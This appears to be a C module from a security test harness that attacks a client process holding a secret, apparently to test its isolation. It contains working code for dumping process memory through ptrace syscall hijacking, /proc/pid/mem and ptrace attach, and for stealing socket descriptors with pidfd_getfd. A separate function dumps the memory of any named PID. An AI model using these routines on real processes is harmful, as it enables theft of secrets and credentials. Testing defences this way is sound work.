// Attacks on the memory and the descriptors of a client.
#include "attacker.h"

#include <sys/ptrace.h>
#include <sys/user.h>

// Traces the victim from its start. When it says that it has its secret, it makes itself readable instead.
void trace_start(void) {
    pid_t victim = (pid_t)CHECK(fork());
    if (victim == 0) {
        CHECK(ptrace(PTRACE_TRACEME, 0, 0, 0));
        run_victim("hold");
    }
    int status;
    bool is_entry = true;
    for (;;) {
        if (waitpid(victim, &status, 0) < 0 || WIFEXITED(status) || WIFSIGNALED(status)) {
            return;
        }
        struct user_regs_struct registers;
        CHECK(ptrace(PTRACE_GETREGS, victim, 0, &registers));
        if (WSTOPSIG(status) == (SIGTRAP | 0x80)) {
            if (is_entry && registers.orig_rax == SYS_write && registers.rdi == 1) {
                registers.orig_rax = SYS_prctl;
                registers.rdi = PR_SET_DUMPABLE;
                registers.rsi = 1;
                CHECK(ptrace(PTRACE_SETREGS, victim, 0, &registers));
                CHECK(ptrace(PTRACE_SYSCALL, victim, 0, 0));
                waitpid(victim, &status, 0);
                print_memory(victim);
                kill(victim, SIGKILL);
                return;
            }
            is_entry = !is_entry;
        } else {
            ptrace(PTRACE_SETOPTIONS, victim, 0, PTRACE_O_TRACESYSGOOD);
        }
        CHECK(ptrace(PTRACE_SYSCALL, victim, 0, 0));
    }
}

// Goes for a client that has its secret, in the way that METHOD names. KIND says which client.
void read_client(void) {
    const char *method = setting("METHOD");
    if (strcmp(setting("KIND"), "naive") == 0) {
        // The group that the kernel gives keeps other processes of the user out by itself.
        CHECK(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
    }
    pid_t victim = start_holder(setting("KIND"));
    if (victim < 0) {
        fprintf(stderr, "the victim got nothing\n");
        return;
    }
    if (strcmp(method, "process_vm_readv") == 0) {
        print_memory(victim);
    } else if (strcmp(method, "mem") == 0) {
        char path[64], line[512];
        static char bytes[4096];
        snprintf(path, sizeof path, "/proc/%d/mem", victim);
        int memory = open(path, O_RDONLY);
        snprintf(path, sizeof path, "/proc/%d/maps", victim);
        FILE *maps = fopen(path, "r");
        if (memory < 0 || maps == NULL) {
            perror(path);
        } else {
            while (fgets(line, sizeof line, maps) != NULL) {
                unsigned long start, end;
                char rights[5];
                if (sscanf(line, "%lx-%lx %4s", &start, &end, rights) == 3 && rights[1] == 'w') {
                    for (; start < end; start += sizeof bytes) {
                        ssize_t got = pread(memory, bytes, sizeof bytes, (off_t)start);
                        if (got > 0) {
                            CHECK(write(1, bytes, (size_t)got));
                        }
                    }
                }
            }
        }
    } else if (strcmp(method, "ptrace") == 0) {
        int status;
        if (ptrace(PTRACE_ATTACH, victim, 0, 0) != 0) {
            perror("ptrace");
        } else {
            waitpid(victim, &status, 0);
            print_memory(victim);
        }
    } else if (strcmp(method, "pidfd_getfd") == 0) {
        int process = (int)CHECK(syscall(SYS_pidfd_open, victim, 0));
        for (int number = 3; number < 16; number++) {
            int stolen = (int)syscall(SYS_pidfd_getfd, process, number, 0);
            int kind;
            socklen_t length = sizeof kind;
            if (stolen < 0 || getsockopt(stolen, SOL_SOCKET, SO_TYPE, &kind, &length) != 0) {
                continue;
            }
            struct frame request = load("REQUEST");
            send_plain(stolen, &request);
            print_rest(stolen, 300);
        }
    }
    kill(victim, SIGKILL);
}

// All that can be read of the process that PROCESS names.
void read_process(void) {
    int status;
    pid_t process = atoi(setting("PROCESS"));
    if (!print_memory(process) && ptrace(PTRACE_ATTACH, process, 0, 0) == 0) {
        waitpid(process, &status, 0);
        print_memory(process);
    }
}
